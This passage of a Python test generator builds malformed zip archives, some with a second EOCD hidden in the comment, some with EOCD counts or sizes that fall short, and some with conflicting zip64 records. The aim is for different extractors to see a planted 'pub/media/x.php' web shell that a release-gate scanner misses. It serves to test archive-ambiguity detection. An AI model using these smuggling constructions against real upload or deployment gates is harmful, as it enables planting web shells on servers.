    eocd_a = a.eocd()
    return a.locals_ + a.central + b.locals_ + b.central + b.eocd(comment=eocd_a)


@case("z-eocd-in-comment-rev", "zip", "zip A (pub/media/x.php) + zip B (README.txt) whose EOCD comment is A's EOCD",
      {"last EOCD signature (A)": "pub/media/x.php = shell", "EOCD B": "README.txt"}, ["polyglot"])
def build_z_eocd_in_comment_rev() -> bytes:
    a = zip_parts([Z("pub/media/x.php", SHELL)])
    b = zip_parts([Z("README.txt", BENIGN)], base=len(a.locals_) + len(a.central))
    return a.locals_ + a.central + b.locals_ + b.central + b.eocd(comment=a.eocd())


@case("z-eocd-count-short", "zip", "central directory of 2 entries (README.txt, pub/media/x.php); the EOCD counts 1",
      {"by count (gate; PHP refuses)": "README.txt", "by directory size (unzip, bsdtar, Python)": "README.txt, pub/media/x.php = shell"}, ["framing"])
def build_z_eocd_count_short() -> bytes:
    parts = zip_parts([Z("README.txt", BENIGN), Z("pub/media/x.php", SHELL)])
    return parts.locals_ + parts.central + eocd(1, len(parts.central), len(parts.locals_))


@case("z-eocd-size-short", "zip", "central directory of 2 entries; the EOCD's directory size covers only the first",
      {"by count": "README.txt, pub/media/x.php = shell", "by directory size": "README.txt"}, ["framing"])
def build_z_eocd_size_short() -> bytes:
    parts = zip_parts([Z("README.txt", BENIGN), Z("pub/media/x.php", SHELL)])
    first_len = len(central_header(Z("README.txt", BENIGN), BENIGN, 0))
    return parts.locals_ + parts.central + eocd(2, first_len, len(parts.locals_))


@case("z-zip64-eocd-disagree", "zip", "the EOCD points at a directory of README.txt; a zip64 EOCD (found through its locator) at one of pub/media/x.php",
      {"classic EOCD": "README.txt", "zip64 EOCD": "pub/media/x.php = shell"}, ["zip64"])
def build_z_zip64_eocd_disagree() -> bytes:
    parts = zip_parts([Z("README.txt", BENIGN), Z("pub/media/x.php", SHELL)])
    readme_central = central_header(Z("README.txt", BENIGN), BENIGN, 0)
    shell_central = parts.central[len(readme_central):]
    cd1_off = len(parts.locals_)
    cd2_off = cd1_off + len(readme_central)
    body = parts.locals_ + readme_central + shell_central
    z64_off = len(body)
    z64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, len(shell_central), cd2_off)
    locator = struct.pack("<IIQI", 0x07064B50, 0, z64_off, 1)
    return body + z64 + locator + eocd(1, len(readme_central), cd1_off)


@case("z-zip64-eocd-disagree-rev", "zip", "the EOCD points at a directory of pub/media/x.php; a zip64 EOCD (found through its locator) at one of README.txt",
      {"classic EOCD": "pub/media/x.php = shell", "zip64 EOCD": "README.txt"}, ["zip64"])
def build_z_zip64_eocd_disagree_rev() -> bytes:
    parts = zip_parts([Z("pub/media/x.php", SHELL), Z("README.txt", BENIGN)])
    shell_central = central_header(Z("pub/media/x.php", SHELL), SHELL, 0)
    readme_central = parts.central[len(shell_central):]
    cd1_off = len(parts.locals_)
    cd2_off = cd1_off + len(shell_central)
    body = parts.locals_ + shell_central + readme_central
    z64 = struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, 45, 45, 0, 0, 1, 1, len(readme_central), cd2_off)
    locator = struct.pack("<IIQI", 0x07064B50, 0, len(body), 1)
    return body + z64 + locator + eocd(1, len(shell_central), cd1_off)


@case("z-zip64-extra-size", "zip", "pub/media/x.php with 32-bit sizes of 5 and a zip64 extra holding the real sizes",
      {"32-bit sizes": "pub/media/x.php = first 5 bytes or error", "zip64 extra": "pub/media/x.php = shell"}, ["zip64"])
def build_z_zip64_extra_size() -> bytes:
    extra = zip64_extra(len(SHELL), len(SHELL))
    return make_zip([Z("pub/media/x.php", SHELL, usize=5, csize=5, local_usize=5, local_csize=5,
                       extra_local=extra, extra_central=extra, version_needed=45)])


@case("z-control", "zip", "control: a plain zip with pub/media/x.php, app/etc/env.php and .env",
      {"all": "as stored"}, ["control"])
def build_z_control() -> bytes:
    return make_zip([Z("pub/media/x.php", SHELL), Z("app/etc/env.php", ENV_PHP), Z(".env", DOTENV)])



# --------------------------------------------------------------------------------------
# What release-gate must say: the cases where extractors interpret the bytes differently
# (another name source, type, framing or content) carry an ``ambiguous-archive`` finding.
# The others differ only by an extractor's policy (``..`` refused or followed, a leading
# ``/`` stripped or kept, a link written through or refused, a special file refused),
# which other findings name, or not at all. Zip cases are decided with the zip readings.

AMBIGUOUS_TAR = {
    "t-data-symlink", "t-data-fifo", "t-data-chardev", "t-data-blockdev", "t-data-reg-slash", "t-data-areg-slash",
    "t-data-hardlink", "t-data-dumpdir", "t-data-volume", "t-data-pax-empty",
    "t-pax-two-x", "t-pax-two-x-rev", "t-pax-global-path", "t-pax-global-path-rev", "t-pax-global-path-local",
    "t-pax-empty-path", "t-pax-path-nul", "t-pax-sparse-name", "t-pax-sparse-10", "t-pax-sparse-01",
    "t-pax-then-L", "t-L-then-pax", "t-two-L", "t-prefix-vs-pax", "t-prefix-gnu-magic", "t-prefix-v7",
    "t-longname-noext", "t-type-A", "t-type-M", "t-type-V", "t-path-trailing-dot", "t-path-file-slash",
    "t-pax-size-override", "t-pax-size-symlink",
    "t-type-X", "t-data-symlink-php", "t-pax-size-hardlink", "t-pax-size-dir", "t-pax-sparse-name-first",
    "t-pax-v7-magic", "t-K-then-pax-linkpath",
    "t-pax-two-size", "t-pax-v7-first", "t-pax-sparse-00", "t-type-S-extended", "t-pax-path-dotdot", "t-L-file-slash",
}


AMBIGUOUS_ZIP = {
    "z-host-02", "z-host-03", "z-host-05", "z-host-12", "z-host-13", "z-host-16", "z-host-17", "z-host-18", "z-host-30",
    "z-dos-dir-attr", "z-unix-ifdir-content", "z-unix-dirbit-both",
    "z-unicode-extra", "z-unicode-extra-rev", "z-unicode-extra-rev-unix", "z-unicode-extra-unix", "z-unicode-extra-central-only",
    "z-unicode-extra-local-only", "z-unicode-extra-utf8flag", "z-local-central-name", "z-name-nul", "z-dup-central-same-local",
    "z-local-only", "z-stream-dd-smuggle", "z-local-size-short", "z-tar-then-zip", "z-zip-then-zip",
    "z-eocd-in-comment", "z-eocd-in-comment-rev", "z-eocd-count-short", "z-eocd-size-short",
    "z-zip64-eocd-disagree", "z-zip64-eocd-disagree-rev",
}


def ambiguous(c: Case) -> bool | None:
    return c.id in (AMBIGUOUS_TAR if c.format == "tar" else AMBIGUOUS_ZIP)

# --------------------------------------------------------------------------------------

def write_cases(outdir: str, only: set[str] | None = None) -> list[dict]:
    os.makedirs(outdir, exist_ok=True)
    index = []
    seen = set()
    for c in CASES:
        if c.id in seen:
            raise SystemExit(f"duplicate case id {c.id}")
        seen.add(c.id)
        if (c.id in AMBIGUOUS_TAR and c.format != "tar") or (c.id in AMBIGUOUS_ZIP and c.format != "zip"):
            raise SystemExit(f"{c.id} is listed as ambiguous in the other format's set")
        if only and c.id not in only:
            continue
        file = f"{c.id}.{c.format}"
        with open(os.path.join(outdir, file), "wb") as out:
            out.write(c.build())
        index.append({"id": c.id, "format": c.format, "file": file, "description": c.description,
                      "readings": c.readings, "tags": c.tags, "ambiguous": ambiguous(c)})
    with open(os.path.join(outdir, "cases.json"), "w") as out:
        json.dump(index, out, indent=1)
    return index


def main(argv: list[str]) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("outdir")
    parser.add_argument("--only", help="comma-separated case ids")
    args = parser.parse_args(argv)
    unknown = (AMBIGUOUS_TAR | AMBIGUOUS_ZIP) - {c.id for c in CASES}
    if unknown:
        raise SystemExit(f"AMBIGUOUS_TAR or AMBIGUOUS_ZIP names no case: {', '.join(sorted(unknown))}")
    index = write_cases(args.outdir, set(args.only.split(",")) if args.only else None)
    print(f"{len(index)} cases written to {args.outdir}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
